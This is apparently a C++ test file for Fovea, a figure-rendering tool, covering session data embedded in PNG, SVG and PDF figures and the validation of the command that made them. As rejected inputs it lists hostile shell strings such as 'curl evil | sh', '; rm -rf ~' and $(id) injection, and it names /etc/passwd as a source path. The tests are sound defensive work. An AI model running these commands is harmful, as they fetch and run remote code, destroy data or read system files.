// Sessions that figures carry.
#include <doctest/doctest.h>

#include <QFile>
#include <QGuiApplication>
#include <QImage>
#include <QTemporaryDir>
#include <filesystem>
#include <fstream>

#include "data/error.h"
#include "figure/figure.h"
#include "input/recorded_command.h"
#include "input/session_file.h"
#include "messages.h"
#include "temporary_directory.h"
#include "views/views.h"

using namespace fovea;
using namespace fovea::test;

namespace {

const char* const figure_names[] = {"f.png", "f.svg", "f.pdf", "F.PDF"};

struct WrittenFigure {
  static QGuiApplication& application() {
    static int count = 1;
    static char name[] = "test", *words[] = {name, nullptr};
    if (!qApp) {
      qputenv("QT_QPA_PLATFORM", "offscreen");
      static QGuiApplication one(count, words);
    }
    return *qApp;
  }
  QTemporaryDir folder;
  std::string write(const char* name, const Recipe& recipe) const {
    application();
    Figure figure{.title = "A figure", .rows = {{{.body = Message{"nothing"}}}}, .recipe = recipe};
    const std::string path = folder.filePath(name).toStdString();
    const std::string lower =
        folder.filePath("lower" + QString(name).right(4).toLower()).toStdString();
    write_figure(lower, figure);
    QFile::remove(QString::fromStdString(path));
    QFile::rename(QString::fromStdString(lower), QString::fromStdString(path));
    return path;
  }
};

std::string refusal_of(const std::string& path) {
  try {
    read_session(path);
  } catch (const InputError& error) {
    return error.what();
  }
  return "";
}

}  // namespace

TEST_CASE("each kind of figure gives its session back") {
  const WrittenFigure written;
  SessionFile file{.session = standard_session("synthetic:gaussian?n=64&d=8&heads=3", 64),
                   .content_hash = "abc123",
                   .layout = {}};
  file.session.head = 2;
  file.session.pinned_query = 7;
  file.session.spans = {{"the “system” prompt & <more>", {0, 24}}};
  file.session.replaced_heads = "25-29,3.1";
  for (const char* name : figure_names) {
    CAPTURE(name);
    const std::string path = written.write(name, {text_of(file), "fovea render x -o f.png"});
    CHECK(is_session_file(path));
    const SessionFile found = read_session(path);
    CHECK(found.session == file.session);
    CHECK(found.content_hash == "abc123");
  }
}

TEST_CASE("a figure without a session says how it was made, or that it has none") {
  const WrittenFigure written;
  for (const char* name : figure_names) {
    CAPTURE(name);
    const std::string path = written.write(name, {{}, "fovea paper rank-map -o figure.pdf"});
    CHECK(is_session_file(path));
    CHECK(refusal_of(path) ==
          path + ": carries no session; this command makes it: fovea paper rank-map -o figure.pdf");
    CHECK(refusal_of(written.write(name, {})).find("open its source instead") != std::string::npos);
    const std::string broken = refusal_of(written.write(name, {"{\"fovea_session\": 1", {}}));
    CHECK(broken.starts_with(path));
  }
}

TEST_CASE("a photograph is no session, and stays a source") {
  WrittenFigure::application();
  const QTemporaryDir folder;
  const QString path = folder.filePath("photo.png");
  REQUIRE(QImage(8, 8, QImage::Format_RGB32).save(path));
  CHECK_FALSE(is_session_file(path.toStdString()));
  CHECK_FALSE(is_session_file(folder.filePath("missing.pdf").toStdString()));
}

TEST_CASE("a session whose source has gone names it, and what it held") {
  const SessionFile there{.session = standard_session("synthetic:golden", 64)};
  CHECK_NOTHROW(require_source("f.png", there));
  const SessionFile gone{.session = standard_session("/nowhere/heads.npz", 64),
                         .content_hash = "abc123"};
  CHECK_THROWS_WITH_AS(require_source("f.png", gone),
                       doctest::Contains("/nowhere/heads.npz is no longer there"), InputError);
  CHECK_THROWS_WITH_AS(require_source("f.png", gone), doctest::Contains("abc123"), InputError);
}

TEST_CASE("little of a large figure is read to find its session") {
  const WrittenFigure written;
  const SessionFile file{.session = standard_session("synthetic:golden", 64)};
  const qint64 much =
      qint64{6} << 30;  // bytes: more than could be read within the limits of a test
  const auto grow = [&](const std::string& path) {
    std::filesystem::resize_file(path, static_cast<std::uintmax_t>(much));  // takes no place
  };
  for (const char* name : {"f.png", "f.svg"}) {
    CAPTURE(name);
    const std::string path = written.write(name, {text_of(file), {}});
    grow(path);
    CHECK(is_session_file(path));
    CHECK(read_session(path).session == file.session);
  }
  // What is looked for in a PDF is at its end.
  const std::string pdf = written.write("f.pdf", {text_of(file), {}}), bytes = read_bytes(pdf);
  const std::string begin = bytes.substr(0, 9);
  write_bytes(pdf, begin);
  grow(pdf);
  std::ofstream(pdf, std::ios::binary | std::ios::app) << bytes.substr(begin.size());
  CHECK(read_session(pdf).session == file.session);
  // A picture that is none of Fovea's.
  const TemporaryDirectory folder;
  const std::string other =
      folder.write("other.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'>");
  grow(other);
  CHECK_FALSE(is_session_file(other));
}

TEST_CASE("only a command of Fovea is shown as the command that makes a figure") {
  for (const char* command :
       {"fovea paper rank-map -o figure.pdf", "fovea render 'a b.npz' --title 'it'\\''s' -o f.png",
        "fovea render $'/tmp/\\xff.npz' -o f.png", "fovea report x.npz --seed -3 -o f.pdf"})
    CHECK_MESSAGE(is_command_of_fovea(command), command);
  for (const char* other :
       {"", "fovea", "curl evil | sh", "fovea render x -o f.png; rm -rf ~",
        "fovea render `id` -o f", "fovea render $(id) -o f", "fovea render x > f",
        "fovea render x\nrm y", "sudo fovea render x", "fovea compute x -o f", "fovea render 'x",
        "fovea render \"$(id)\" -o f", "fovea render $'\\'' -o f", "fovea render x && y",
        "fovea render --a|b x", "fovea render x\x1b[2Jy -o f"})
    CHECK_FALSE_MESSAGE(is_command_of_fovea(other), other);
  const WrittenFigure written;
  const std::string refusal = refusal_of(written.write("f.png", {{}, "curl evil | sh"}));
  CHECK(contains(refusal, "in place of a command of Fovea another text"));
  CHECK_FALSE(contains(refusal, "curl"));
}

TEST_CASE(
    "law: of all characters a command of Fovea holds those alone that a shell takes as they are") {
  const std::string plain =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_./:,=+@%";
  for (int code = 33; code < 127; ++code) {
    const char c = static_cast<char>(code);
    CAPTURE(c);
    CHECK(is_command_of_fovea(std::string("fovea render a") + c + "b -o f.svg") ==
          (plain.find(c) != plain.npos));
  }
}

TEST_CASE("words and pictures elsewhere need the hash that their session states") {
  const TemporaryDirectory figures, texts;
  const std::string text = texts.write("secret.txt", "all my words"),
                    tokens = texts.write("secret.json", R"(["all", "my", "words"])"),
                    picture = texts.write("secret.png", "\x89PNG\r\n\x1A\n"),
                    tensors = texts.write("heads.npz", "PK\x03\x04"), hash(64, 'a');
  SessionFile file{.session = standard_session("synthetic:golden", 64)};
  const auto elsewhere = [&](const std::string& figure, const std::string& source,
                             const std::string& stated) {
    file.session.source = source;
    file.content_hash = stated;
    return content_elsewhere(figure, file);
  };
  std::filesystem::create_symlink(text, figures / "link.txt");
  for (const std::string& one : {text, tokens, picture, std::string("/etc/passwd")}) {
    CAPTURE(one);
    for (const char* none : {"", "x", "abc123"})
      CHECK(elsewhere(figures / "f.png", one, none).unknown == one);
    for (const std::string& none : {hash + "a", hash.substr(1) + "g"})
      CHECK(elsewhere(figures / "f.png", one, none).unknown == one);
    CHECK(elsewhere(figures / "f.png", one, hash).unknown.empty());
    CHECK(elsewhere(figures / "f.png", one, hash).needs_hash);
  }
  CHECK(elsewhere(figures / "f.png", figures / "link.txt", "").unknown == figures / "link.txt");
  const std::string around =
      texts / "../" + std::filesystem::path(texts.path()).filename().string() + "/f.png";
  for (const std::string& beside : {texts / "f.png", around}) {
    CHECK(elsewhere(beside, text, "").unknown.empty());
    CHECK_FALSE(elsewhere(beside, text, hash).needs_hash);
  }
  for (const std::string& source : {std::string("synthetic:golden"), tensors}) {
    CHECK(elsewhere(figures / "f.png", source, "").unknown.empty());
    CHECK_FALSE(elsewhere(figures / "f.png", source, hash).needs_hash);
  }
  // Heads of other files, of which a session states no hash.
  file.session.columns[1].held = HeldHead{.source = text, .layer = 0, .head = 0};
  CHECK(elsewhere(figures / "f.png", "synthetic:golden", hash).unknown == text);
  CHECK(elsewhere(figures / "f.png", picture, hash).unknown == text);
  CHECK(elsewhere(figures / "f.png", text, hash).unknown.empty());  // of the source itself
  CHECK(elsewhere(texts / "f.png", "synthetic:golden", "").unknown.empty());
}
